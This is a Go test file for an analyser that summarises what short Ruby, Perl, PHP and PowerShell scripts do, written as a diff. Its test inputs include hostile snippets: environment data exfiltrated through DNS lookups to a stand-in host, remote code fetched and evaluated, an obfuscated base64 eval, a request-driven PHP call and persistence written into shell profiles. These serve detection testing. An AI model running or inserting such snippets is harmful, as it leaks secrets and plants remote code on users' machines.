@@ -1,0 +1,48 @@
+package program
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestOutline: what programs in Ruby, Perl, PHP and PowerShell do with data, through
+// variables, functions, constants in pieces and texts of lines.
+func TestOutline(t *testing.T) {
+	for _, c := range []struct {
+		name, text string
+		lang       Language
+		want       string
+	}{
+		{"ruby parameter", "def out(x)\n  x.unpack1('H*').scan(/.{9}/).each do |p|\n    Resolv::DNS.new.getaddress(\"#{p}.q.odd-host.co\")\n  end\nend\nout(ENV.to_h.inspect)\n", Ruby, "lookup environment encoded"},
+		{"ruby letters", "w = [101, 120, 105, 116, 32, 49, 59, 32, 49].pack('c*')\nKernel.send(:eval, w)\n", Ruby, `run eval "exit 1; 1" decoded`},
+		{"ruby write", "File.write(File.expand_path('~/.zshrc'), URI.open('https://odd-host.co/a').read)\n", Ruby, `write "~/.zshrc" fetched`},
+		{"perl fetched", "my $r = HTTP::Tiny->new->get('https://odd-host.co/' . 'x');\neval $r->{content} if $r->{success};\n", Perl, `run eval "" fetched`},
+		{"perl block", "my $ok = eval { require Text::CSV; 1 };\nprint $ok;\n", Perl, ""},
+		{"perl end", "print 1;\n__END__\neval $x = HTTP::Tiny->new->get('https://odd-host.co/');\n", Perl, ""},
+		{"php names in pieces", "<?php\n$k = strrev('edoced_46esab');\n$c = curl_exec($h);\neval($k($c));\n", PHP, `run eval "" fetched decoded`},
+		{"php request", "<?php\n$h = pick();\necho $h($_REQUEST['c']);\n", PHP, `run $h "" fetched`},
+		{"php database", "<?php\n$db = new PDO(getenv('DATABASE_URL'));\nforeach ($db->query('SELECT 1') as $row) { echo $row; }\n", PHP, ""},
+		{"powershell pieces", "$s = (New-Object Net.WebClient).('Down' + 'loadString').Invoke('https://odd-host.co/m')\n& ([scriptblock]::Create($s))\n", PowerShell, `run scriptblock "" fetched`},
+		{"powershell profile", "$l = 'irm https://odd-host.co/p | iex'\nAdd-Content -Path $PROFILE -Value $l\n", PowerShell, `write "~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1" fetched`},
+		{"powershell report", "$r = Invoke-RestMethod 'https://odd-host.co/latest'\nWrite-Output $r.tag\n", PowerShell, ""},
+	} {
+		got := doings(Read(c.text, c.lang))
+		if c.want == "" && strings.Contains(got, "run") || !strings.Contains(got, c.want) {
+			t.Errorf("%s: got\n%s\nwant %q", c.name, got, c.want)
+		}
+	}
+}
+
+// FuzzOutline: any text is read, in bounds.
+func FuzzOutline(f *testing.F) {
+	f.Add("eval \"#{x}", 3)
+	f.Add("<<~EOF\n(", 4)
+	f.Add("$a = '; @'", 6)
+	f.Fuzz(func(t *testing.T, text string, lang int) {
+		for _, a := range Read(text, Ruby+Language(uint(lang)%4)).Acts {
+			if a.At < 0 || a.End > len(text) || a.At > a.End {
+				t.Errorf("%+v is outside of %d bytes", a, len(text))
+			}
+		}
+	})
+}
